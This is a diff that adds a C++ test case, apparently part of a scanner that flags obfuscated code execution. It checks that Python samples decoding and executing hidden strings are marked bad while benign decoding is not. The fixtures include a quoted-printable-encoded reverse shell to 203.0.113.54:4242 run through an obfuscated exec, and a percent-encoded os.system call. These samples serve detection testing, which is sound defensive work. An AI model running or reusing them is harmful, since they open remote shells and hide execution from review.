@@ -170,5 +170,25 @@ TEST(FourteenthRoundClasses, ProcessEnvironmentsAreTheEnvironment) {
   for (const auto& c : cases) check(c);
 }
 
+// Quoted-printable and percent-encoding hide code as base64 does: decoded
+// constants that run are payloads; decoding mail or a URL path is not.
+TEST(FourteenthRoundClasses, QuotedPrintableAndPercentEncodingAreDecoded) {
+  const Case cases[] = {
+      {"quopri-decoded reverse shell through getattr(builtins, 'ex'+'ec')", B,
+       "import builtins, quopri\nAGENT = b'import socket,os=0A=\\ns=3Dsocket.socket()=0A=\\n"
+       "s.connect((\"203.0.113.54\",4242))=0A=\\nos.dup2(s.fileno(),0)=0A=\\nos.system(\"/bin/sh -i\")=0A=\\n'\n"
+       "getattr(builtins, 'ex' + 'ec')(quopri.decodestring(AGENT).decode())\n",
+       "EXEC-DECODED-PAYLOAD"},
+      {"exec of an unquoted constant", B,
+       "import urllib.parse\nexec(urllib.parse.unquote('import%20os%3Bos.system%28%22id%22%29'))\n",
+       "EXEC-DECODED-PAYLOAD"},
+      {"a mail body and a URL path decoded and printed", L,
+       "import email, quopri, urllib.parse\nmsg = email.message_from_file(open('mail.eml'))\n"
+       "print(quopri.decodestring(msg.get_payload()).decode())\n"
+       "print(urllib.parse.unquote('/files/My%20Report.pdf'))\n"},
+  };
+  for (const auto& c : cases) check(c);
+}
+
 }  // namespace
 }  // namespace mai::assess::test
